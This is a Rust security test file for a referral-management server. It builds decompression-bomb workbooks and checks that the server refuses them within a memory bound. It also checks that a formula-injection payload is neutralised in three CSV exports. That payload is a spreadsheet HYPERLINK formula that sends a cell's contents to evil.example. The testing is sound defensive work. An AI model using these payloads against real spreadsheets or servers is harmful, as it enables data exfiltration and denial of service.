//! The attacks of the adversarial review (issue 35), each reproduced against the real server
//! over HTTP and refused: one test per attack, named after it, readable top to bottom.
//!
//! Decompression bombs: a token that may send counter-referrals posts workbooks built to fill
//! the server's memory — five million cells naming one shared string in a file of kilobytes,
//! five million distinct shared strings, a sheet of a million honest-looking rows. Each is
//! refused with a Spanish message naming the file and the limit, and the server's resident
//! memory (its peak included, read from `/proc`) stays within a bound while it reads them.
//! The workbooks are built by `vamos_ingest::fuzzing`; the ingest crate's `bombs` tests try
//! every limit on its own.
//!
//! CSV formula injection: a name, a rejected value or an audit purpose such as
//! `=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")` reaches the CSV files other people
//! open in a spreadsheet (the referral list, the rejection report, the audit export). Each is
//! written with an apostrophe in front, so the spreadsheet shows it as text; numbers stay numbers
//! (`vamos_domain::csv_safe` tries every dangerous first character on its own).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use serde_json::Value;
use std::io::Write;
use std::path::Path;

mod common;
use common::*;

/// A field of the server's `/proc/<pid>/status`, in kB (`VmRSS`, `VmHWM`).
fn memory_kb(pid: u32, field: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| {
            l.strip_prefix(field)?
                .trim_start_matches(':')
                .split_whitespace()
                .next()
        })
        .unwrap()
        .parse()
        .unwrap()
}

/// Posts a file to `/api/counter-referrals/file` as a workbook.
fn post_workbook(s: &Server, token: &str, body: &[u8]) -> (u16, Value) {
    let resp = agent()
        .post(format!("{}/api/counter-referrals/file", s.base))
        .header("authorization", format!("Bearer {token}"))
        .header(
            "content-type",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        )
        .send(body)
        .unwrap();
    let status = resp.status().as_u16();
    let text = resp.into_body().read_to_string().unwrap_or_default();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

/// A registry with an MSPBS operator of Villeta, and its token that may send counter-referrals.
fn operator_token(url: &str, d: &Path) -> String {
    init_db(url, d);
    let o = vamos(
        &[
            "user",
            "create",
            "--db",
            url,
            "hospital",
            "--role",
            "operador",
            "--institution",
            "MSPBS",
            "--territories",
            "1116",
        ],
        d,
        &[("VAMOS_PASSWORD", PW)],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let o = vamos(
        &[
            "token",
            "create",
            "--db",
            url,
            "--user",
            "hospital",
            "--name",
            "his",
            "--days",
            "1",
            "--scopes",
            "contrarreferencias:enviar",
        ],
        d,
        &[],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

/// The header row of a counter-referral sheet, as inline strings.
const HEADER: &[u8] = br#"<row r="1"><c r="A1" t="inlineStr"><is><t>id_evento</t></is></c><c r="B1" t="inlineStr"><is><t>cedula</t></is></c><c r="C1" t="inlineStr"><is><t>servicio</t></is></c><c r="D1" t="inlineStr"><is><t>fecha_entrega</t></is></c></row>"#;

/// The three bombs, each with what its refusal must say.
fn bombs(dir: &Path) -> Vec<(&'static str, Vec<u8>, &'static str)> {
    use vamos_ingest::fuzzing::{write_xlsx, PartWriter};
    let build = |name: &str, sheet: PartWriter<'_>, shared: PartWriter<'_>| {
        let path = dir.join(name);
        write_xlsx(&path, sheet, Some(shared)).unwrap();
        std::fs::read(path).unwrap()
    };
    let one_string = build(
        "una_cadena.xlsx",
        &mut |w| {
            let mut b = std::io::BufWriter::with_capacity(1 << 20, w);
            b.write_all(HEADER)?;
            let row = br#"<row><c t="s"><v>0</v></c><c t="s"><v>0</v></c><c t="s"><v>0</v></c><c t="s"><v>0</v></c><c t="s"><v>0</v></c></row>"#;
            for _ in 0..1_000_000 {
                b.write_all(row)?;
            }
            b.flush()
        },
        &mut |w| w.write_all(b"<si><t>1234567</t></si>"),
    );
    let strings = build("cadenas.xlsx", &mut |w| w.write_all(HEADER), &mut |w| {
        let mut b = std::io::BufWriter::with_capacity(1 << 20, w);
        for i in 0..5_000_000u32 {
            write!(b, "<si><t>{i:07}</t></si>")?;
        }
        b.flush()
    });
    let rows = build(
        "filas.xlsx",
        &mut |w| {
            let mut b = std::io::BufWriter::with_capacity(1 << 20, w);
            b.write_all(HEADER)?;
            for r in 2..=1_000_001u32 {
                write!(
                    b,
                    r#"<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}" t="s"><v>0</v></c><c r="C{r}" t="s"><v>1</v></c><c r="D{r}" t="s"><v>2</v></c></row>"#
                )?;
            }
            b.flush()
        },
        &mut |w| {
            w.write_all(b"<si><t>1234567</t></si><si><t>control_prenatal</t></si><si><t>2026-11-20</t></si>")
        },
    );
    vec![
        (
            "cinco millones de celdas de una cadena",
            one_string,
            "más de 100 a 1",
        ),
        (
            "cinco millones de cadenas",
            strings,
            "más de 2000000 textos distintos",
        ),
        ("un millón de filas", rows, "más de 200001 filas"),
    ]
}

#[test]
fn a_workbook_bomb_posted_as_counter_referrals_is_refused_within_bounded_memory() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    let token = operator_token(&db.url, d.path());
    let bombs = bombs(d.path());
    // What is tested is the refusal and the memory, not the request timeout: a debug build on a
    // loaded machine reads a million rows slowly.
    let s = common::start_with(&db.url, d.path(), &[("VAMOS_REQUEST_TIMEOUT_SECS", "600")]);
    let pid = s.child.id();
    let before = memory_kb(pid, "VmRSS");
    for (what, body, reason) in &bombs {
        let (status, v) = post_workbook(&s, &token, body);
        let message = v["error"]["message"].as_str().unwrap_or_default();
        assert_eq!(status, 400, "{what}: {v}");
        assert!(
            message.contains("«contrarreferencias.xlsx") && message.contains(reason),
            "{what}: {message}"
        );
        let (now, peak) = (memory_kb(pid, "VmRSS"), memory_kb(pid, "VmHWM"));
        eprintln!(
            "{what} ({} bytes): resident {before} kB before, {now} kB after, peak {peak} kB",
            body.len()
        );
        assert!(
            peak.saturating_sub(before) < 300 * 1024,
            "{what}: the server's memory grew from {before} kB to a peak of {peak} kB"
        );
    }
    // The server still answers.
    let (status, _, _) = call(&s, &Who::default(), "get", "/api/health", None);
    assert_eq!(status, 200);
}

/// A cell that a spreadsheet runs as a formula, sending the neighbouring cell away.
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")"#;

/// `cell` as the CSV writer quotes it (the formula's quotes doubled), with the apostrophe.
fn neutralised(cell: &str) -> String {
    format!("\"'{}\"", cell.replace('"', "\"\""))
}

#[test]
fn a_formula_in_a_name_is_neutralised_in_the_referral_csv() {
    let row = serde_json::json!({
        "id": 7,
        "priority": -5,
        "district_code": "1116",
        "person": {"given_names": HYPERLINK, "family_names": "@SUM(1+1)"},
    });
    let csv = vamos_app::referrals::report_csv(&[row]).unwrap();
    let csv = String::from_utf8(csv).unwrap();
    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
    assert!(csv.contains(",'@SUM(1+1)"), "{csv}");
    assert!(!csv.contains(",=HYPERLINK"), "{csv}");
    // Numbers stay numbers, negative ones included.
    assert!(csv.contains("\n7,,-5,"), "{csv}");
}

#[test]
fn a_formula_in_a_purpose_is_neutralised_in_the_audit_export() {
    let row = vamos_store::audit::AuditRow {
        id: 1,
        at: "2025-01-01T00:00:00Z".into(),
        actor: "ana".into(),
        role: Some("operador".into()),
        institution: Some("MSPBS".into()),
        action: "leer persona".into(),
        subject_kind: "persona".into(),
        subject_id: "-12".into(),
        purpose: HYPERLINK.into(),
        request_id: None,
        outcome: "+ok".into(),
        prev_hash: None,
        hash: None,
    };
    let csv = vamos_app::audit::audit_csv(&[row]).unwrap();
    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
    assert!(csv.contains("\"'+ok\""), "{csv}");
    assert!(csv.contains("\"-12\""), "{csv}");
}

#[test]
fn a_formula_in_a_rejected_value_is_neutralised_in_the_rejection_report() {
    let d = tempfile::tempdir().unwrap();
    let path = d.path().join("rechazos.csv");
    let mut log = vamos_ingest::report::RejectionLog::new(Some(&path)).unwrap();
    log.reject_row(vec![vamos_ingest::report::Rejection {
        file: "hogares.csv".into(),
        row: 2,
        column: "cedula".into(),
        value: HYPERLINK.into(),
        reason: "-cédula inválida".into(),
        key: "\t=1+2".into(),
    }])
    .unwrap();
    log.finish().unwrap();
    let csv = std::fs::read_to_string(&path).unwrap();
    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
    assert!(csv.contains(",'-cédula inválida,"), "{csv}");
    assert!(csv.contains(",'\t=1+2\n"), "{csv}");
    assert!(csv.contains("hogares.csv,2,cedula,"), "{csv}");
}
